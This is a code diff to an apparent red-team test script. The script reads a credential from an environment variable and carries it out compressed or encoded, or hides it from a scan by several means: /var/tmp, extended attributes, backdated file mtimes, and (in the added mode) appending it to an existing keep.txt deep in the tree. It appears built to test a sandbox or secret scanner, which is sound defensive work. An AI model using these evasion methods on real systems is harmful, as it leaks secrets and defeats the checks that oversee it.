@@ -1,6 +1,6 @@
 """Red team 15 (jail): carry a credential out compressed, then encoded.
 
-    rt15j_pack.py --var NAME --how out-gzip|out-zlib-hex|file-xz|body-gzip|var-tmp|new-tree|cwd-touch|cwd-xattr|var-tmp-name
+    rt15j_pack.py --var NAME --how out-gzip|out-zlib-hex|file-xz|body-gzip|var-tmp|new-tree|cwd-touch|cwd-xattr|var-tmp-name|cwd-deep
 
 Without a jail it may also write the value where the scan did not look: /var/tmp, a new tree
 under /tmp, or a file in its working directory whose mtime it then puts back a day (`touch -d`).
@@ -28,7 +28,7 @@ def main() -> int:
     p = argparse.ArgumentParser()
     p.add_argument("--var", required=True)
     p.add_argument("--how", required=True, choices=("out-gzip", "out-zlib-hex", "file-xz", "body-gzip", "var-tmp", "new-tree", "cwd-touch",
-                                                       "cwd-xattr", "var-tmp-name"))
+                                                       "cwd-xattr", "var-tmp-name", "cwd-deep"))
     p.add_argument("--title", default="Flaky login test")
     args, _ = p.parse_known_args()
     value = os.environ.get(args.var, "").encode()
@@ -56,6 +56,12 @@ def main() -> int:
         old = os.stat(path).st_mtime - 86400
         os.utime(path, (old, old))
         os.utime(os.getcwd(), (old, old))  # its directory too
+    elif args.how == "cwd-deep":  # appended to a file that was there, deep down: no directory changes
+        for base, _, files in os.walk(os.getcwd()):
+            if base != os.getcwd() and "keep.txt" in files:
+                with open(os.path.join(base, "keep.txt"), "ab") as f:
+                    f.write(b"\n" + value)
+                break
     elif args.how == "cwd-xattr":  # an empty file whose extended attribute holds it
         path = os.path.join(os.getcwd(), "rt15j-marked")
         open(path, "wb").close()
